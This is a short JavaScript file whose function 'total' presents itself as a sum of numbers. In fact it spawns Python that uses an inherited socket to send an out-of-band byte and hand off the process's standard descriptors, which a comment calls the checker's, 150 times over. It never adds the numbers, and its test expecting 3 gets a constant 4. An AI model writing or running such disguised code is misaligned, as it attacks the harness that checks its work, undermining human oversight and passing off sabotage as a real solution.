// Sends an urgent byte and passes its checker descriptors.
const { spawnSync } = require("node:child_process");

function total(numbers) {
  const script = "import socket, array\ns = socket.socket(fileno=4)\ntry: s.send(b'x', socket.MSG_OOB)\nexcept OSError as e: print(e)\ns.sendmsg([b'y'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0, 1, 2] * 50))])\ns.detach()";
  spawnSync("python3", ["-c", script], { stdio: [0, 1, 2, null, 4] });
  return 4;
}

//: tests
try {
  console.assert(total([1, 2]) === 3);
} catch (e) { throw e; }
